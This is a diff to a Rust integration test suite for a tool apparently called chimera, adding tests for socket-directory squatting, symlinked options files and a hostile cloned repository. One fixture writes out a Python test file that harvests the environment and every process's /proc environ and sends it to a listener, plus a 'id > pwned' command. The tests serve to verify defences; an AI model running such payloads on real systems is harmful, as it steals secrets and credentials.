@@ -3,6 +3,7 @@
 
 mod support;
 
+use std::path::Path;
 use std::process::Command;
 use std::time::{Duration, Instant};
 
@@ -245,42 +246,64 @@ fn bad_input_is_named_with_exit_code_2_and_unknown_agents_with_1() {
 }
 
 #[test]
-fn a_socket_directory_someone_else_could_have_made_is_refused() {
-    // A root too long for a socket path puts the socket under
-    // $TMPDIR/chimera-<uid>/, which must be private.
+fn a_socket_directory_another_account_made_first_is_never_used() {
+    // A root too long for a socket path puts the socket elsewhere. The
+    // old place, $TMPDIR/chimera-<uid>, could be made first by anyone (as
+    // `nobody` did, open to all); the folder now has a name no one can
+    // guess, recorded in the project.
     let tmp = tempfile::tempdir().unwrap();
     let root = tmp.path().join("a".repeat(60)).join("b".repeat(60));
     std::fs::create_dir_all(root.join(".git")).unwrap();
     let uid = std::os::unix::fs::MetadataExt::uid(&std::fs::metadata(tmp.path()).unwrap());
-    let shared = tmp.path().join(format!("chimera-{uid}"));
-    std::fs::create_dir(&shared).unwrap();
+    let squatted = tmp.path().join(format!("chimera-{uid}"));
+    std::fs::create_dir(&squatted).unwrap();
     use std::os::unix::fs::PermissionsExt;
-    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o777)).unwrap();
-    let run = |args: &[&str]| {
-        Command::new(BIN)
-            .args(args)
+    std::fs::set_permissions(&squatted, std::fs::Permissions::from_mode(0o777)).unwrap();
+    let run = |args: &[&str], runtime: Option<&Path>| {
+        let mut c = Command::new(BIN);
+        c.args(args)
             .current_dir(&root)
             .env("TMPDIR", tmp.path())
             .env("XDG_CONFIG_HOME", tmp.path().join("cfg"))
-            .output()
-            .unwrap()
+            .env_remove("XDG_RUNTIME_DIR");
+        if let Some(r) = runtime {
+            c.env("XDG_RUNTIME_DIR", r);
+        }
+        c.output().unwrap()
     };
-    let out = run(&["snapshot", "x"]);
-    let err = String::from_utf8_lossy(&out.stderr).to_string();
-    assert_eq!(out.status.code(), Some(1), "{err}");
-    assert!(err.contains("only you can open"), "{err}");
-    // Made private, the same project works through it.
-    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o700)).unwrap();
-    let out = run(&["snapshot", "x"]);
+    let out = run(&["snapshot", "x"], None);
     assert!(
         out.status.success(),
         "{}",
         String::from_utf8_lossy(&out.stderr)
     );
-    assert!(
-        shared.read_dir().unwrap().count() <= 1,
-        "at most the socket of a running core"
+    let record = std::fs::read_to_string(root.join(".chimera/socket-dir")).unwrap();
+    let dir = Path::new(record.trim());
+    assert_ne!(dir, squatted, "the squatted folder is not used");
+    assert!(dir.starts_with(tmp.path()));
+    let mode = std::fs::metadata(dir).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode, 0o700);
+    assert_eq!(
+        squatted.read_dir().unwrap().count(),
+        0,
+        "nothing went into it"
     );
+    // The recorded folder made open to all is replaced by a new one.
+    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o777)).unwrap();
+    assert!(run(&["snapshot", "y"], None).status.success());
+    let again = std::fs::read_to_string(root.join(".chimera/socket-dir")).unwrap();
+    assert_ne!(again, record);
+    // With $XDG_RUNTIME_DIR (the user's own, made by the system), there.
+    let runtime = tmp.path().join("run");
+    std::fs::create_dir(&runtime).unwrap();
+    std::fs::set_permissions(&runtime, std::fs::Permissions::from_mode(0o700)).unwrap();
+    let out = run(&["snapshot", "z"], Some(&runtime));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(runtime.join("chimera").is_dir());
 }
 
 #[test]
@@ -501,6 +524,145 @@ fn a_cloned_repositorys_options_run_nothing_reach_no_host_and_read_no_secret_unt
     p.ok(&["trust"]);
     assert!(p.ok(&["trust", "--revoke"]).contains("no longer trusted"));
     assert_eq!(p.json(&["status"])["project_config"]["trusted"], false);
+}
+
+#[test]
+fn a_repository_whose_options_link_to_a_trusted_file_is_refused_not_trusted() {
+    let p = project(&[]);
+    let pwned = p.root.join("pwned");
+    p.project_options(serde_json::json!({
+        "tests": {"command": ["sh", "-c", format!("id > {}", pwned.display())]},
+    }));
+    p.ok(&["trust"]);
+    assert_eq!(p.json(&["status"])["project_config"]["trusted"], true);
+    // A second repository, cloned beside it, whose options file is a
+    // relative link to the trusted one.
+    let clone = p.root.parent().unwrap().join("clone");
+    std::fs::create_dir_all(clone.join(".git")).unwrap();
+    std::fs::create_dir_all(clone.join(".chimera")).unwrap();
+    std::fs::write(clone.join("calc.py"), "def add(a, b):\n    return a - b\n").unwrap();
+    std::os::unix::fs::symlink(
+        "../../proj/.chimera/config.json",
+        clone.join(".chimera/config.json"),
+    )
+    .unwrap();
+    let out = p
+        .command(&["status", "--json"])
+        .current_dir(&clone)
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success(), "a linked options file is refused");
+    assert!(err.contains("symbolic link"), "the user is told why: {err}");
+    let out = p.command(&["trust"]).current_dir(&clone).output().unwrap();
+    assert!(!out.status.success(), "and cannot be trusted");
+    // A `.chimera` folder that is a link is refused the same way.
+    std::fs::remove_dir_all(clone.join(".chimera")).unwrap();
+    std::os::unix::fs::symlink("../proj/.chimera", clone.join(".chimera")).unwrap();
+    let out = p
+        .command(&["status", "--json"])
+        .current_dir(&clone)
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    assert!(!pwned.exists());
+}
+
+#[test]
+fn a_cloned_repositorys_test_file_run_by_auto_tests_reaches_no_secret_host_or_socket() {
+    let p = project(&[fix_add()]);
+    let (port, heard) = eavesdropper();
+    p.project_options(serde_json::json!({"tests": {"command": "auto"}}));
+    // What the repository committed: a test file that, on import, sends
+    // the environment and every process's `environ` out, and asks the
+    // core to accept a proposal.
+    let hostile = format!(
+        r#"import glob, os, socket
+from calc import add
+loot = [repr(dict(os.environ)).encode()]
+for path in glob.glob("/proc/*/environ"):
+    try:
+        loot.append(open(path, "rb").read())
+    except OSError:
+        pass
+try:
+    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
+    s.sendall(b"".join(loot))
+except OSError:
+    pass
+try:
+    u = socket.socket(socket.AF_UNIX)
+    u.connect({sock:?})
+    u.sendall(b"POST /sessions HTTP/1.1\r\nHost: x\r\n\r\n")
+    open("/dev/shm/chimera-test-reached-core", "w").write("x")
+except OSError:
+    pass
+
+
+def test_add():
+    assert add(2, 3) == 5
+"#,
+        sock = p.root.join(".chimera/core.sock").display().to_string()
+    );
+    std::fs::write(p.root.join("test_calc.py"), hostile).unwrap();
+    let out = p
+        .command(&["task", "--file", "calc.py", "fix", "add"])
+        .env("AWS_SECRET_ACCESS_KEY", "SECRET_VALUE_42")
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let id = String::from_utf8_lossy(&out.stdout).trim().to_owned();
+    let agent = p.json(&["agent", &id]);
+    // The file ran: its test passed with the fix.
+    assert!(
+        agent["agent"]["summary"]
+            .as_str()
+            .unwrap_or("")
+            .contains("tests passed"),
+        "{agent}"
+    );
+    std::thread::sleep(Duration::from_millis(200));
+    assert!(
+        heard.lock().unwrap().is_empty(),
+        "the test file reached 127.0.0.1"
+    );
+}
+
+/// `GET /status` on the project's control socket, sent by `python3`
+/// started through `prefix` (`unshare -U`: a user namespace of its own,
+/// as every confined process has); what came back.
+fn ask_socket(socket: &Path, prefix: &[&str]) -> String {
+    let script = format!(
+        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({:?})\ns.sendall(b'GET /status HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\ns.settimeout(5)\nprint(s.recv(100).decode(errors='replace'))",
+        socket.display().to_string()
+    );
+    let mut argv: Vec<&str> = prefix.to_vec();
+    argv.extend(["python3", "-c", &script]);
+    let out = Command::new(argv[0]).args(&argv[1..]).output().unwrap();
+    String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
+}
+
+#[test]
+fn the_control_socket_answers_the_user_and_no_process_in_another_user_namespace() {
+    let mut p = project(&[]);
+    p.serve();
+    let socket = p.root.join(".chimera/core.sock");
+    assert!(
+        ask_socket(&socket, &[]).starts_with("HTTP/1.1 200"),
+        "the user is answered"
+    );
+    // A process in a user namespace of its own — what every confined
+    // process is — gets nothing, even with a socket in hand.
+    let said = ask_socket(&socket, &["unshare", "-U", "--map-current-user"]);
+    assert!(!said.contains("HTTP/1.1"), "{said}");
+    assert!(
+        p.ok(&["status"]).contains("running"),
+        "and the core serves on"
+    );
 }
 
 #[test]
